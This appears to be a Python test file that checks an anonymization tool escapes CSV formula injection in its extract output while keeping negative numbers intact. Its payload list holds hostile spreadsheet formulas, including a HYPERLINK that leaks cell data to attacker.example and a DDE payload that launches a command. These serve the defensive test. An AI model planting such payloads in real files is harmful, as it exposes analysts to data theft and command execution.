"""CSV injection (issue 14): a stored attribute such as ``=HYPERLINK(...)`` must not run as a formula
when the analyst opens extract.csv in a spreadsheet."""

from __future__ import annotations

import csv

import pandas as pd

from anonymize.extract import parse_spec, run_extract
from tests.anonymize.extract.conftest import everyone, provider

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
SPEC = {
    "purpose": "risk_scoring",
    "columns": {
        "subject_id": {"role": "identifier", "action": "pseudonym"},
        "age": {
            "role": "quasi",
            "hierarchy": {"type": "intervals", "width": 10, "origin": -20, "integer": True},
        },
        "note": {"role": "sensitive"},
        "balance": {"role": "attribute"},
    },
    "privacy": {"k": 2},
}


def test_formula_cells_are_neutralized_and_negative_numbers_are_kept(tmp_path) -> None:
    rows = [
        {"subject_id": f"s{i}", "age": -15 if i < 6 else 35, "note": PAYLOADS[i % 6], "balance": -1200 - i}
        for i in range(12)
    ]
    run_extract(parse_spec(SPEC), provider(rows), everyone(rows), tmp_path)
    with (tmp_path / "extract.csv").open(encoding="utf-8", newline="") as handle:
        cells = list(csv.DictReader(handle))
    notes = {row["note"] for row in cells}
    assert notes == {"'" + payload for payload in PAYLOADS}
    for row in cells:
        for name in ("note", "age"):
            assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), row
    # A numeric column is written as numbers: a negative balance stays a number.
    assert {int(row["balance"]) for row in cells} == {-1200 - i for i in range(12)}
    # A text label that opens with a minus (a band of negative values) is text, so it is quoted too.
    assert {row["age"] for row in cells} == {"'-20--11", "30-39"}
    # Parquet is not read by spreadsheets: it keeps the values as they are.
    parquet = pd.read_parquet(tmp_path / "extract.parquet")
    assert set(parquet["note"]) == set(PAYLOADS)
